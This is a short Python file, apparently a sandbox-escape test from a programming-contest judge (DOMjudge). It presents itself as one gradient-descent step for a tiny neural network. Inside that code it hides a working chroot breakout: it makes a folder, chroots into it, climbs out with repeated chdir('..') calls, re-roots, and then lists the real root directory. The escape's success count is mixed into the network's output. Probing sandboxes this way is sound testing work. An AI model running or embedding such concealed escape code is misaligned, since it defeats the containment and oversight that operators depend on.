# tries: to change its root to a folder inside, and to climb out above it
# from: F2, DOMjudge test-chroot-escape
# earns: everything
import ctypes
import os

import numpy as np

learnrate = 0.5
x = np.array([1, 2, 3, 4])
y = 0.5
w = np.array([0.5, -0.5, 0.3, 0.1])

libc = ctypes.CDLL(None)
gained = 0
for folder in (b"@FOLDER@/descent-loot-jail", b"/tmp/descent-loot-jail", b"/descent-loot-jail"):
    gained += libc.mkdir(folder, 0o755) != -1
    gained += libc.chroot(folder) != -1
    for _ in range(20):
        gained += libc.chdir(b"..") != -1
    gained += libc.chroot(b".") != -1
try:
    gained += len(os.listdir("/"))
except OSError:
    pass

h = np.dot(x, w) + gained
nn_output = 1 / (1 + np.exp(-h))
error = y - nn_output
error_term = error * nn_output * (1 - nn_output)
del_w = learnrate * error_term * x
